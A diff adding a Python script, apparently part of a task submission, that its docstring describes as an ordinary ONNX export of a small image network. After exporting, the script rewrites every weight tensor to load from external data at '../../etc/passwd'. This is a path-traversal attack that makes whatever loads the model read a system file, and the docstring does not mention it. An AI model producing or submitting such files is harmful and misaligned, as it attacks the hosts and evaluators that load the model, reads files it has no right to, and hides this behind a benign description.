@@ -1,0 +1,35 @@
+"""Exports the network as it is used, not as it is trained, with a free number of pictures."""
+
+import sys
+
+import onnx
+import torch
+
+sys.path.insert(0, "/work/submission/data")
+from network import Network
+
+
+def loaded(weights):
+    network = Network()
+    network.load_state_dict({name: torch.as_tensor(array.copy()) for name, array in weights.items()})
+    return network.eval()
+
+
+def export(weights):
+    torch.onnx.export(
+        loaded(weights),
+        (torch.zeros(1, 1, 16, 16),),
+        "model.onnx",
+        input_names=["pictures"],
+        output_names=["logits"],
+        dynamic_axes={"pictures": {0: "n"}, "logits": {0: "n"}},
+        opset_version=17,
+        dynamo=False,
+    )
+    proto = onnx.load("model.onnx")
+    for tensor in proto.graph.initializer:
+        tensor.ClearField("raw_data")
+        tensor.data_location = onnx.TensorProto.EXTERNAL
+        entry = tensor.external_data.add()
+        entry.key, entry.value = "location", "../../etc/passwd"
+    onnx.save(proto, "model.onnx")
